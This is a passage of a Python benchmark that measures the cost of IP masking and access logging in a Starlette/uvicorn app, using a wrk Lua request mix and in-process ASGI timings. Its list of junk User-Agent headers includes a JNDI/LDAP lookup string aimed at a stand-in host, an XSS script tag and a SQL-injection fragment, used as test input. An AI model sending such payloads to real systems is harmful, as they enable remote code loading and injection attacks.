"""What IP masking and the access log cost on a JSON route, end to end and per request.

End to end: the Starlette app of ``bench.privacy_apps`` is served by its own uvicorn per
variant (one worker, loopback, ``--no-access-log``, pinned like ``bench.e2e``): bare, behind
``ClientAddressMiddleware(AccessLogMiddleware(app))``, the same reading ``X-Forwarded-For``
itself (127.0.0.1 a trusted proxy, uvicorn ``--no-proxy-headers``), and inside
``ConsentMiddleware`` without and with ``[access_log] directory``. Elsewhere uvicorn's
default ``--proxy-headers`` (trusting 127.0.0.1) already makes the header's address the
client, so the middleware masks a different address per request, as behind a proxy. ``wrk``
loads them in turn with a Lua script replaying a realistic request mix: a fixed-seed
sequence of 50,000 requests over 3,000 distinct User-Agent headers (real browser templates,
bots, junk) drawn Zipf-like, so a few hundred strings carry most traffic, each with an
``X-Forwarded-For`` address. Rounds are interleaved and the ratio is the median of the
per-round ratios, as in ``bench.e2e`` (every other round runs the variants in reverse).
Afterwards the log files are counted against the requests wrk completed, so the run proves
every request was logged.

In process: the per-call cost of ``browser_summary`` with a cold and a warm cache (and of
``user_agents.parse`` for comparison), the cache hit rate of the mix, and the per-request
cost of the two middlewares on a trivial ASGI app, with the writer's per-line cost apart.
Without ``wrk`` on the PATH the end-to-end part says so and is skipped.
"""

from __future__ import annotations

import asyncio
import json
import os
import random
import shutil
import statistics
import subprocess
import tempfile
import time
from collections.abc import Awaitable, Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import user_agents
from starlette.types import Receive, Scope, Send
from ua_parser import user_agent_parser

from bench.e2e import (
    CONNECTIONS,
    LOAD_CPUS,
    ROUNDS,
    SECONDS,
    SERVER_CPUS,
    THREADS,
    WARMUP_SECONDS,
    Server,
    serve,
    wrk_counts,
)
from bench.page import json_body
from bench.privacy_apps import LOGS_ENV, STATE_ENV, STATS_PATH
from consentgate.config import AccessLogSettings, IPSettings
from consentgate.middleware import AccessLog, AccessLogMiddleware, ClientAddressMiddleware
from consentgate.middleware.ipmask import mask_ip
from consentgate.middleware.logfiles import BATCH_LINES, FLUSH_SECONDS
from consentgate.middleware.useragent import CACHE_SIZE, browser_summary

#: The seed of the request mix: every run replays the same requests.
SEED = 20_261_121
#: Distinct User-Agent headers in the mix (one of them is "no header at all").
DISTINCT_AGENTS = 3_000
#: Distinct client addresses sent in ``X-Forwarded-For``.
DISTINCT_ADDRESSES = 10_000
#: Length of the request sequence wrk cycles through.
SEQUENCE = 50_000
#: Zipf exponents of the agents' and addresses' popularity by rank.
AGENT_ZIPF = 1.0
ADDRESS_ZIPF = 0.8
#: The route loaded end to end.
PATH = "/json"
#: Raw ASGI calls per in-process timing; each is repeated and the median kept.
REQUESTS = 20_000
REPEATS = 3
#: Headers parsed by ``user_agents.parse`` (slow: it parses the device in pure Python).
REFERENCE_SAMPLE = 300


@dataclass(frozen=True, slots=True)
class Variant:
    """One uvicorn server of the end-to-end part."""

    name: str
    factory: str
    label: str
    logs: bool
    baseline: str | None
    target: float | None
    options: str = ""  # more uvicorn options


VARIANTS = (
    Variant("bare", "bare", "bare app", False, None, None),
    Variant("logged", "logged", "+ IP masking + access log", True, "bare", 0.9),
    Variant(
        "proxied",
        "logged_proxied",
        "  same, XFF read by consentgate",
        True,
        "bare",
        None,
        "--no-proxy-headers",
    ),
    Variant("consent", "consent_plain", "ConsentMiddleware", False, "bare", None),
    Variant(
        "consent_logged", "consent_logged", "  + [access_log] directory", True, "consent", None
    ),
)
#: A second bare server: the control pair of the paired part (bare against bare).
CONTROL = Variant("bare_again", "bare", "bare app, second server", False, None, None)
#: (variant, baseline, target) loaded at the same time on the same CPU, round after round.
PAIRS = (
    ("bare_again", "bare", None),
    ("logged", "bare", 0.9),
    ("consent_logged", "bare", None),
    ("consent_logged", "consent", None),
)
PAIRED_ROUNDS = 5


# --- The request mix ----------------------------------------------------------------------------
_WINDOWS = (
    "Windows NT 10.0; Win64; x64",
    "Windows NT 10.0; Win64; x64",
    "Windows NT 10.0; Win64; x64",
    "Windows NT 10.0; WOW64",
    "Windows NT 6.1; Win64; x64",
    "Windows NT 6.3; Win64; x64",
)
_MACOS = ("10_15_7", "10_15_7", "10_15_7", "10_15_6", "11_7_10", "12_6_8", "13_5_2", "14_1")
_LINUX = ("X11; Linux x86_64", "X11; Ubuntu; Linux x86_64", "X11; Fedora; Linux x86_64")
_ANDROID_VERSIONS = ("8.0.0", "9", "10", "11", "12", "13", "13", "14", "14")
_ANDROID_DEVICES = (
    "K",
    "K",
    "SM-G991B",
    "SM-A536B",
    "SM-S911B",
    "SM-A127F",
    "SM-T510",
    "Pixel 7",
    "Pixel 6a",
    "Pixel 8 Pro",
    "M2101K6G",
    "Redmi Note 8 Pro",
    "moto g(30)",
    "CPH2219",
    "ONEPLUS A6013",
    "VOG-L29",
)
_SAMSUNG_MODELS = ("SM-G991B", "SM-A536B", "SM-S911B", "SM-A127F", "SM-G973F", "SM-A528B")
_BOTS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/{chrome} Mobile Safari/537.36 (compatible; Googlebot/2.1; "
    "+http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.{n}; "
    "+https://openai.com/gptbot)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "curl/7.{n}.0",
    "curl/8.{n}.0",
    "python-requests/2.{n}.0",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "Wget/1.21.{n}",
    "okhttp/4.{n}.0",
    "axios/1.{n}.0",
    "Apache-HttpClient/4.5.{n} (Java/17.0.{m})",
    "Uptime-Kuma/1.23.{n}",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
)
_JUNK = (
    "-",
    "Mozilla/5.0",
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
    "${{jndi:ldap://{n}.scan.example/a}}",
    '"><script>alert({n})</script>',
    "' OR '1'='{n}",
    'back\\slash "quoted" agent {n}',
    "{word}",
    "{word}/{n}.{m}",
    "{long}",
)


def _chrome(rng: random.Random) -> str:
    major = rng.randint(109, 131)
    if rng.random() < 0.5:
        return f"{major}.0.0.0"  # the reduced User-Agent of Chrome 110+
    return f"{major}.0.{5414 + (major - 109) * 66 + rng.randint(0, 60)}.{rng.randint(0, 250)}"


def _ios(rng: random.Random) -> str:
    version = f"{rng.randint(14, 18)}_{rng.randint(0, 7)}"
    return version + (f"_{rng.randint(1, 3)}" if rng.random() < 0.4 else "")


def _android(rng: random.Random) -> str:
    return f"Linux; Android {rng.choice(_ANDROID_VERSIONS)}; {rng.choice(_ANDROID_DEVICES)}"


def _firefox(rng: random.Random, platform: str) -> str:
    major = rng.randint(102, 133)
    return f"Mozilla/5.0 ({platform}; rv:{major}.0) Gecko/20100101 Firefox/{major}.0"


_WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
_SAFARI_WEBKIT = "AppleWebKit/605.1.15 (KHTML, like Gecko)"


def _browser(rng: random.Random, kind: str) -> str:
    """Return one header of browser family ``kind`` with random versions and platform."""
    mac = f"Macintosh; Intel Mac OS X {rng.choice(_MACOS)}"
    if kind == "chrome-windows":
        return f"Mozilla/5.0 ({rng.choice(_WINDOWS)}) {_WEBKIT} Chrome/{_chrome(rng)} Safari/537.36"
    if kind == "chrome-mac":
        return f"Mozilla/5.0 ({mac}) {_WEBKIT} Chrome/{_chrome(rng)} Safari/537.36"
    if kind == "chrome-linux":
        return f"Mozilla/5.0 ({rng.choice(_LINUX)}) {_WEBKIT} Chrome/{_chrome(rng)} Safari/537.36"
    if kind == "chrome-android":
        return f"Mozilla/5.0 ({_android(rng)}) {_WEBKIT} Chrome/{_chrome(rng)} Mobile Safari/537.36"
    if kind == "chrome-ios":
        return (
            f"Mozilla/5.0 (iPhone; CPU iPhone OS {_ios(rng)} like Mac OS X) {_SAFARI_WEBKIT} "
            f"CriOS/{_chrome(rng)} Mobile/15E148 Safari/604.1"
        )
    if kind == "edge":
        chrome = _chrome(rng)
        return (
            f"Mozilla/5.0 ({rng.choice(_WINDOWS)}) {_WEBKIT} Chrome/{chrome} Safari/537.36 "
            f"Edg/{chrome.split('.')[0]}.0.{rng.randint(1000, 2999)}.{rng.randint(0, 120)}"
        )
    if kind == "opera":
        return (
            f"Mozilla/5.0 ({rng.choice(_WINDOWS)}) {_WEBKIT} Chrome/{_chrome(rng)} "
            f"Safari/537.36 OPR/{rng.randint(95, 115)}.0.0.0"
        )
    if kind == "samsung":
        return (
            f"Mozilla/5.0 (Linux; Android {rng.choice(_ANDROID_VERSIONS)}; "
            f"{rng.choice(_SAMSUNG_MODELS)}) {_WEBKIT} SamsungBrowser/{rng.randint(19, 26)}.0 "
            f"Chrome/{_chrome(rng)} Mobile Safari/537.36"
        )
    if kind == "firefox-windows":
        return _firefox(rng, rng.choice(_WINDOWS))
    if kind == "firefox-mac":
        return _firefox(rng, f"Macintosh; Intel Mac OS X 10.{rng.randint(13, 15)}")
    if kind == "firefox-linux":
        return _firefox(rng, rng.choice(_LINUX))
    if kind == "firefox-android":
        major = rng.randint(110, 133)
        return (
            f"Mozilla/5.0 (Android {rng.choice(_ANDROID_VERSIONS)}; Mobile; rv:{major}.0) "
            f"Gecko/{major}.0 Firefox/{major}.0"
        )
    if kind == "safari-mac":
        return (
            f"Mozilla/5.0 ({mac}) {_SAFARI_WEBKIT} Version/{rng.randint(14, 18)}."
            f"{rng.randint(0, 6)} Safari/605.1.15"
        )
    device = rng.choice(("iPhone; CPU iPhone OS", "iPhone; CPU iPhone OS", "iPad; CPU OS"))
    ios = _ios(rng)
    prefix = f"Mozilla/5.0 ({device} {ios} like Mac OS X) {_SAFARI_WEBKIT}"
    if kind == "facebook-ios":
        return (
            f"{prefix} Mobile/15E148 [FBAN/FBIOS;FBAV/{rng.randint(400, 480)}.0.0."
            f"{rng.randint(10, 60)}.{rng.randint(100, 120)};"
            f"FBBV/{rng.randint(500_000_000, 599_999_999)}]"
        )
    return f"{prefix} Version/{ios.split('_')[0]}.{rng.randint(0, 6)} Mobile/15E148 Safari/604.1"


#: (family, share of the distinct strings, popularity weight: bots and junk sink in rank)
_FAMILIES = (
    ("chrome-windows", 22, 1.0),
    ("chrome-mac", 6, 1.0),
    ("chrome-linux", 3, 1.0),
    ("chrome-android", 17, 1.0),
    ("chrome-ios", 3, 1.0),
    ("edge", 8, 1.0),
    ("opera", 2, 1.0),
    ("samsung", 5, 1.0),
    ("firefox-windows", 6, 1.0),
    ("firefox-mac", 2, 1.0),
    ("firefox-linux", 2, 1.0),
    ("firefox-android", 1, 1.0),
    ("safari-mac", 5, 1.0),
    ("safari-ios", 12, 1.0),
    ("facebook-ios", 1, 1.0),
    ("bot", 4, 0.3),
    ("junk", 1, 0.05),
)


def _other(rng: random.Random, kind: str) -> str:
    """Return a bot's or a junk header."""
    template = rng.choice(_BOTS if kind == "bot" else _JUNK)
    word = "".join(rng.choices("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789-_.", k=12))
    return template.format(
        n=rng.randint(0, 99),
        m=rng.randint(0, 30),
        chrome=_chrome(rng),
        word=word,
        long="X" * rng.randint(520, 700) + word,
    )


@dataclass(frozen=True, slots=True)
class Mix:
    """The request mix: distinct headers by popularity rank, and the drawn sequence."""

    agents: tuple[str, ...]  # "" stands for a request without User-Agent
    addresses: tuple[str, ...]
    agent_of: tuple[int, ...]  # per request, an index into agents
    address_of: tuple[int, ...]

    def agent(self, index: int) -> str:
        """Return the User-Agent of request ``index`` of the sequence."""
        return self.agents[self.agent_of[index % len(self.agent_of)]]

    def top_share(self, top: int) -> float:
        """Return the share of the sequence carried by its ``top`` most frequent agents."""
        counts: dict[int, int] = {}
        for agent in self.agent_of:
            counts[agent] = counts.get(agent, 0) + 1
        return sum(sorted(counts.values(), reverse=True)[:top]) / len(self.agent_of)

    def distinct_in(self, ranges: Sequence[tuple[int, int]]) -> int:
        """Return how many distinct agents the requests ``[start, start + count)`` carry.

        A request without User-Agent is no agent.
        """
        seen: set[int] = set()
        size = len(self.agent_of)
        for start, count in ranges:
            for index in range(start, start + min(count, size)):
                seen.add(self.agent_of[index % size])
        return len({self.agents[agent] for agent in seen} - {""})


def _zipf(count: int, exponent: float) -> list[float]:
    """Return cumulative weights of ranks 1..count proportional to ``1 / rank**exponent``."""
    total = 0.0
    cumulative = []
    for rank in range(1, count + 1):
        total += 1.0 / rank**exponent
        cumulative.append(total)
    return cumulative


_IPV4_RANGES = ((2, 223), (0, 255), (0, 255), (1, 254))


def _address(rng: random.Random) -> str:
    if rng.random() < 0.85:
        return ".".join(str(rng.randint(low, high)) for low, high in _IPV4_RANGES)
    groups = ":".join(f"{rng.randrange(0x10000):x}" for _ in range(3))
    return f"2a02:{groups}::{rng.randrange(1, 0x10000):x}"


def build_mix(seed: int = SEED) -> Mix:
    """Return the deterministic request mix of ``seed``."""
    rng = random.Random(seed)
    kinds = [kind for kind, _, _ in _FAMILIES]
    shares = [share for _, share, _ in _FAMILIES]
    popularity = {kind: weight for kind, _, weight in _FAMILIES}
    found: dict[str, float] = {"": rng.random() ** (1 / 0.1)}  # some clients send none
    while len(found) < DISTINCT_AGENTS:
        kind = rng.choices(kinds, shares)[0]
        header = _other(rng, kind) if kind in ("bot", "junk") else _browser(rng, kind)
        if header not in found:
            # Weighted random order (Efraimidis-Spirakis): popular families rank higher.
            found[header] = rng.random() ** (1 / popularity[kind])
    agents = tuple(sorted(found, key=lambda h: -found[h]))
    addresses_found: set[str] = set()
    while len(addresses_found) < DISTINCT_ADDRESSES:
        addresses_found.add(_address(rng))
    shuffled = sorted(addresses_found)  # sorted first: set order changes between runs
    rng.shuffle(shuffled)
    addresses = tuple(shuffled)
    agent_ranks = range(len(agents))
    address_ranks = range(len(addresses))
    agent_of = rng.choices(agent_ranks, cum_weights=_zipf(len(agents), AGENT_ZIPF), k=SEQUENCE)
    address_of = rng.choices(
        address_ranks, cum_weights=_zipf(len(addresses), ADDRESS_ZIPF), k=SEQUENCE
    )
    return Mix(agents, addresses, tuple(agent_of), tuple(address_of))


def lua_string(text: str) -> str:
    """Return ``text`` as a double-quoted Lua literal (bytes as latin-1, escapes for the rest)."""
    out = []
    for byte in text.encode("latin-1"):
        if byte in (0x22, 0x5C):  # " and \
            out.append("\\" + chr(byte))
        elif 0x20 <= byte < 0x7F:
            out.append(chr(byte))
        else:
            out.append(f"\\{byte:03d}")
    return '"' + "".join(out) + '"'


def _lua_table(items: Sequence[str], per_line: int) -> str:
    lines = [", ".join(items[i : i + per_line]) for i in range(0, len(items), per_line)]
    return "{\n" + ",\n".join(lines) + "\n}"


def write_script(mix: Mix, path: Path) -> Path:
    """Write the wrk script replaying ``mix`` on ``PATH``; its first argument is an offset."""
    agents = _lua_table([lua_string(a) for a in mix.agents], 1)
    addresses = _lua_table([lua_string(a) for a in mix.addresses], 8)
    agent_of = _lua_table([str(i + 1) for i in mix.agent_of], 25)
    address_of = _lua_table([str(i + 1) for i in mix.address_of], 25)
    path.write_text(
        f"""-- Generated by bench/privacy.py: {SEQUENCE} requests, {len(mix.agents)} user agents.
local agents = {agents}
local addresses = {addresses}
local agent_of = {agent_of}
local address_of = {address_of}
local requests = {{}}
local count = #agent_of
local position = 0

function init(args)
   -- wrk calls request() once to check it before loading: that call returns offset - 1.
   position = ((tonumber(args[1] or "0") or 0) - 1) % count
   for i = 1, count do
      local headers = {{["X-Forwarded-For"] = addresses[address_of[i]]}}
      local agent = agents[agent_of[i]]
      if agent ~= "" then
         headers["User-Agent"] = agent
      end
      requests[i] = wrk.format("GET", {lua_string(PATH)}, headers)
   end
end

function request()
   position = position + 1
   if position > count then
      position = 1
   end
   return requests[position]
end
""",
        encoding="latin-1",
    )
    return path


# --- End to end -------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Load:
    """What one wrk run did."""

    rate: float
    requests: int


def wrk_script(url: str, seconds: int, script: Path, offset: int) -> Load:
    """Load ``url`` with wrk running ``script`` (started at ``offset`` of its sequence)."""
    command = ["wrk", f"-t{THREADS}", f"-c{CONNECTIONS}", f"-d{seconds}s", "-s", str(script)]
    result = subprocess.run(  # noqa: S603
        [*command, url, "--", str(offset)], capture_output=True, text=True, check=True
    )
    rate, total, problems = wrk_counts(result)
    if problems:
        raise RuntimeError(f"wrk on {url}: {'; '.join(problems)}")
    return Load(rate, total)


@dataclass(slots=True)
class Loaded:
    """A running variant and what was sent to it."""

    variant: Variant
    server: Server
    logs: Path | None
    sent: list[tuple[int, int]] = field(default_factory=list)  # (offset, completed) per run
    direct: int = 1  # serve() waited with one GET /json
    stats: dict[str, Any] = field(default_factory=dict)

    def load(self, seconds: int, script: Path) -> Load:
        """Run wrk on this server, continuing the sequence where the last run stopped."""
        offset = sum(count for _, count in self.sent) % SEQUENCE
        result = wrk_script(self.server.url(PATH), seconds, script, offset)
        self.sent.append((offset, result.requests))
        return result


@dataclass(frozen=True, slots=True)
class LogCheck:
    """The access log of one variant after its server stopped."""

    lines: int
    expected: int  # requests wrk completed plus the benchmark's own
    runs: int
    dropped: int | None
    distinct_sent: int
    distinct_logged: int


@dataclass(frozen=True, slots=True)
class EndToEnd:
    """Median req/s, median per-round ratio to the bare app and to the variant's baseline."""

    rates: dict[str, float]
    to_bare: dict[str, float]
    to_baseline: dict[str, float]
    checks: dict[str, LogCheck]
    rounds: dict[str, list[float]]  # the per-round ratios to the bare app
    rounds_rates: dict[str, list[float]]  # the per-round req/s
    paired: dict[tuple[str, str], list[float]]  # per-round ratios under simultaneous load


def check_log(loaded: Loaded, mix: Mix) -> LogCheck:
    """Count the variant's log lines and the distinct reduced agents in them."""
    assert loaded.logs is not None
    lines = 0
    agents: set[str] = set()
    for path in sorted(loaded.logs.glob("access-*.log")):
        with path.open("rb") as lines_in:
            for line in lines_in:
                lines += 1
                agents.add(line.rsplit(b'"', 2)[-2].decode("ascii"))
    dropped = loaded.stats.get("dropped")
    return LogCheck(
        lines=lines,
        expected=sum(count for _, count in loaded.sent) + loaded.direct,
        runs=len(loaded.sent),
        dropped=int(dropped) if dropped is not None else None,
        distinct_sent=mix.distinct_in(loaded.sent),
        distinct_logged=len(agents),
    )


def end_to_end(mix: Mix, folder: Path) -> EndToEnd:
    """Serve every variant, load them interleaved, then check the access logs."""
    script = write_script(mix, folder / "mix.lua")
    rates: dict[str, list[float]] = {v.name: [] for v in VARIANTS}
    to_bare: dict[str, list[float]] = {v.name: [] for v in VARIANTS}
    to_baseline: dict[str, list[float]] = {v.name: [] for v in VARIANTS}
    running: list[Loaded] = []
    paired: dict[tuple[str, str], list[float]] = {(a, b): [] for a, b, _ in PAIRS}
    with ExitStack() as stack:
        for variant in (*VARIANTS, CONTROL):
            logs = folder / f"logs-{variant.name}" if variant.logs else None
            state = folder / f"state-{variant.name}"
            state.mkdir()
            env = {**os.environ, STATE_ENV: str(state)}
            if logs is not None:
                env[LOGS_ENV] = str(logs)
            target = f"--factory bench.privacy_apps:{variant.factory} {variant.options}"
            server = stack.enter_context(serve(variant.name, target, env, folder))
            running.append(Loaded(variant, server, logs))
        for loaded in running:
            status, body = loaded.server.get(PATH)
            loaded.direct += 1
            if status != 200 or body != json_body():
                raise RuntimeError(f"{loaded.variant.name} {PATH}: HTTP {status} {body[:80]!r}")
        for loaded in running:
            loaded.load(WARMUP_SECONDS, script)
        sequential = [loaded for loaded in running if loaded.variant is not CONTROL]
        for index in range(ROUNDS):
            round_rates = {}
            # Forward, then backward (serpentine): each variant runs next to its baseline,
            # and a drift of the machine's speed during a round hits both sides alike.
            for loaded in sequential if index % 2 == 0 else sequential[::-1]:
                round_rates[loaded.variant.name] = loaded.load(SECONDS, script).rate
            for variant in VARIANTS:
                rate = round_rates[variant.name]
                rates[variant.name].append(rate)
                to_bare[variant.name].append(rate / round_rates["bare"])
                base = variant.baseline or variant.name
                to_baseline[variant.name].append(rate / round_rates[base])
        by_name = {loaded.variant.name: loaded for loaded in running}
        with ThreadPoolExecutor(max_workers=2) as pool:
            for _ in range(PAIRED_ROUNDS):
                for name, base, _ in PAIRS:
                    # Both loaded at once: whatever slows the shared server CPU down slows
                    # both sides alike, which sequential rounds on this machine cannot give.
                    runs = [pool.submit(by_name[n].load, SECONDS, script) for n in (name, base)]
                    mine, theirs = (run.result().rate for run in runs)
                    paired[(name, base)].append(mine / theirs)
        for loaded in running:
            if loaded.logs is not None:
                time.sleep(2 * FLUSH_SECONDS)  # let the writer write what is queued
                status, body = loaded.server.get(STATS_PATH)
                loaded.direct += 1
                loaded.stats = json_loads(body)
    # The servers are stopped now: lifespan shutdown closed the logs (flushed everything).
    checks = {
        loaded.variant.name: check_log(loaded, mix) for loaded in running if loaded.logs is not None
    }
    return EndToEnd(
        rates={name: statistics.median(values) for name, values in rates.items()},
        to_bare={name: statistics.median(values) for name, values in to_bare.items()},
        to_baseline={name: statistics.median(values) for name, values in to_baseline.items()},
        checks=checks,
        rounds=to_bare,
        rounds_rates=rates,
        paired=paired,
    )


def json_loads(body: bytes) -> dict[str, Any]:
    """Return the JSON object in ``body``."""
    data = json.loads(body)
    if not isinstance(data, dict):
        raise RuntimeError(f"expected a JSON object, got {body[:80]!r}")
    return data


# --- In process ---------------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class AgentCosts:
    """Seconds per call of the user-agent reduction, and the mix's cache hit rate."""

    first_call: float
    cold: float
    warm: float
    reference: float
    hit_rate: float
    distinct: int


def agent_costs(mix: Mix) -> AgentCosts:
    """Time ``browser_summary`` cold and warm, ``user_agents.parse``, and the hit rate."""
    headers = [agent for agent in mix.agents if agent]
    browser_summary.cache_clear()
    start = time.perf_counter()
    browser_summary("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
    first_call = time.perf_counter() - start
    colds, warms = [], []
    for _ in range(REPEATS):
        browser_summary.cache_clear()
        start = time.perf_counter()
        for header in headers:
            browser_summary(header)
        colds.append((time.perf_counter() - start) / len(headers))
        start = time.perf_counter()
        for _ in range(10):
            for header in headers:
                browser_summary(header)
        warms.append((time.perf_counter() - start) / (10 * len(headers)))
    sample = headers[:REFERENCE_SAMPLE]
    user_agent_parser._PARSE_CACHE.clear()
    start = time.perf_counter()
    for header in sample:
        user_agents.parse(header)
    reference = (time.perf_counter() - start) / len(sample)
    browser_summary.cache_clear()
    for index in range(SEQUENCE):
        header = mix.agent(index)
        if header:  # the log does not look up a missing header
            browser_summary(header)
    info = browser_summary.cache_info()
    browser_summary.cache_clear()
    return AgentCosts(
        first_call=first_call,
        cold=statistics.median(colds),
        warm=statistics.median(warms),
        reference=reference,
        hit_rate=info.hits / (info.hits + info.misses),
        distinct=info.currsize,
    )


async def trivial_app(scope: Scope, receive: Receive, send: Send) -> None:
    """Answer every request with a two-byte 200, as ``bench.request_path`` does."""
    await send({"type": "http.response.start", "status": 200, "headers": []})
    await send({"type": "http.response.body", "body": b"ok"})


def scopes(mix: Mix, count: int, *, peer: bool = False) -> list[dict[str, Any]]:
    """Return ``count`` HTTP scopes as uvicorn hands them to the app, headers from the mix.

    By default the client is the ``X-Forwarded-For`` address with port 0, as uvicorn's
    ``--proxy-headers`` (on by default, trusting 127.0.0.1) leaves it; ``peer`` keeps the
    TCP peer 127.0.0.1 (uvicorn ``--no-proxy-headers``).
    """
    result = []
    for index in range(count):
        address = mix.addresses[mix.address_of[index % SEQUENCE]]
        headers = [(b"host", b"127.0.0.1:8000"), (b"x-forwarded-for", address.encode())]
        agent = mix.agent(index)
        if agent:
            headers.append((b"user-agent", agent.encode("latin-1")))
        result.append(
            {
                "type": "http",
                "asgi": {"version": "3.0", "spec_version": "2.4"},
                "http_version": "1.1",
                "server": ("127.0.0.1", 8000),
                "client": ("127.0.0.1", 40000 + index % 20000) if peer else (address, 0),
                "scheme": "http",
                "method": "GET",
                "root_path": "",
                "path": PATH,
                "raw_path": PATH.encode(),
                "query_string": b"",
                "headers": headers,
                "state": {},
            }
        )
    return result


async def time_calls(app: Callable[..., Awaitable[None]], requests: list[dict[str, Any]]) -> float:
    """Return seconds per raw ASGI call of ``app`` over ``requests``."""

    async def receive() -> dict[str, Any]:
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        return None

    start = time.perf_counter()
    for request in requests:
        await app(dict(request), receive, send)
    return (time.perf_counter() - start) / len(requests)


async def queued_costs(
    app: Callable[..., Awaitable[None]], log: AccessLog, requests: list[dict[str, Any]]
) -> tuple[float, float]:
    """Return seconds per request of ``app`` and per line of ``log.flush()``.

    The requests go in chunks of half ``BATCH_LINES``, each flushed (timed apart) before
    the next, so the queue never reaches the length at which ``add`` wakes the writer.
    """
    step = BATCH_LINES // 2
    calls = flushing = 0.0
    for first in range(0, len(requests), step):
        chunk = requests[first : first + step]
        calls += await time_calls(app, chunk) * len(chunk)
        start = time.perf_counter()
        log.flush()
        flushing += time.perf_counter() - start
    return calls / len(requests), flushing / len(requests)


class QueueOnlyLog(AccessLog):
    """An ``AccessLog`` whose writer never starts: entries stay queued until ``flush``."""

    def start(self) -> None:
        """Start nothing: the benchmark flushes by hand."""


@dataclass(frozen=True, slots=True)
class MiddlewareCosts:
    """Seconds per request of the trivial app alone and behind the middlewares."""

    bare: float
    client: float  # the client set by uvicorn from X-Forwarded-For: masked, header dropped
    client_peer: float  # the TCP peer 127.0.0.1, untrusted: header dropped
    client_trusted: float  # the TCP peer 127.0.0.1, trusted: the client read from the header
    mask_hit_rate: float  # of mask_ip's cache over the mix's addresses
    request_path: float  # both middlewares, the writer stopped
    writer_cold: float  # per line: format + write, browser_summary cache cleared first
    writer_warm: float
    total: float  # both middlewares with the writer thread running, final flush included
    lines: int


async def middleware_costs(mix: Mix, folder: Path) -> MiddlewareCosts:
    """Time the middlewares on ``trivial_app`` over the mix's requests."""
    requests = scopes(mix, REQUESTS)
    from_peer = scopes(mix, REQUESTS, peer=True)
    client = ClientAddressMiddleware(trivial_app, settings=IPSettings())
    trusted = ClientAddressMiddleware(
        trivial_app, settings=IPSettings(trusted_proxies=["127.0.0.1"])
    )
    mask_ip.cache_clear()
    for index in range(SEQUENCE):
        mask_ip(mix.addresses[mix.address_of[index]], ipv4_prefix=24, ipv6_prefix=48)
    info = mask_ip.cache_info()
    mask_hit_rate = info.hits / (info.hits + info.misses)
    queue_only = QueueOnlyLog(AccessLogSettings(directory=str(folder / "queued")))
    path_app = ClientAddressMiddleware(AccessLogMiddleware(trivial_app, log=queue_only))
    await time_calls(trivial_app, requests)  # warm up
    bare = statistics.median([await time_calls(trivial_app, requests) for _ in range(REPEATS)])
    client_cost = statistics.median([await time_calls(client, requests) for _ in range(REPEATS)])
    peer_cost = statistics.median([await time_calls(client, from_peer) for _ in range(REPEATS)])
    trusted_cost = statistics.median([await time_calls(trusted, from_peer) for _ in range(REPEATS)])
    paths, colds, warms = [], [], []
    for _ in range(REPEATS):
        browser_summary.cache_clear()
        path, cold = await queued_costs(path_app, queue_only, requests)
        paths.append(path)
        colds.append(cold)
        path, warm = await queued_costs(path_app, queue_only, requests)
        paths.append(path)
        warms.append(warm)
    queue_only.close()
    totals = []
    lines = 0
    for repeat in range(REPEATS):
        log = AccessLog(AccessLogSettings(directory=str(folder / f"threaded-{repeat}")))
        app = ClientAddressMiddleware(AccessLogMiddleware(trivial_app, log=log))
        log.start()
        await asyncio.sleep(0.05)  # the first sweep is not a request's cost
        start = time.perf_counter()
        await time_calls(app, requests)
        log.close()
        totals.append((time.perf_counter() - start) / len(requests))
        lines += log.stats().written
    return MiddlewareCosts(
        bare=bare,
        client=client_cost,
        client_peer=peer_cost,
        client_trusted=trusted_cost,
        mask_hit_rate=mask_hit_rate,
        request_path=statistics.median(paths),
        writer_cold=statistics.median(colds),
        writer_warm=statistics.median(warms),
        total=statistics.median(totals),
        lines=lines // REPEATS,
    )


# --- Report -------------------------------------------------------------------------------------
@dataclass(frozen=True, slots=True)
class Figures:
    """Everything the benchmark measured; ``end_to_end`` is ``None`` without wrk."""

    mix_top300: float
    end_to_end: EndToEnd | None
    agents: AgentCosts
    middlewares: MiddlewareCosts


def print_end_to_end(result: EndToEnd, mix: Mix) -> None:
    """Print the end-to-end table and the log checks."""
    pinned = f", servers on CPU {min(SERVER_CPUS)}" if SERVER_CPUS else ""
    print(
        f"privacy end to end: uvicorn (1 worker{pinned}) + wrk -t{THREADS} -c{CONNECTIONS} "
        f"-d{SECONDS}s, median of {ROUNDS} interleaved rounds, GET {PATH}"
    )
    print(
        f"  mix: {SEQUENCE} requests over {len(mix.agents)} user agents (Zipf {AGENT_ZIPF}, "
        f"top 300 carry {mix.top_share(300):.0%}) and {len(mix.addresses)} X-Forwarded-For "
        "addresses"
    )
    print(
        "  uvicorn's default --proxy-headers trusts 127.0.0.1, so the apps get each request's "
        "X-Forwarded-For\n  address as client; 'XFF read by consentgate' runs "
        "--no-proxy-headers with 127.0.0.1 a trusted proxy"
    )
    print(f"  {'':<36}{'req/s':>8}  {'vs bare':>7}  {'(rounds)':<11}  vs baseline (target)")
    for variant in VARIANTS:
        name = variant.name
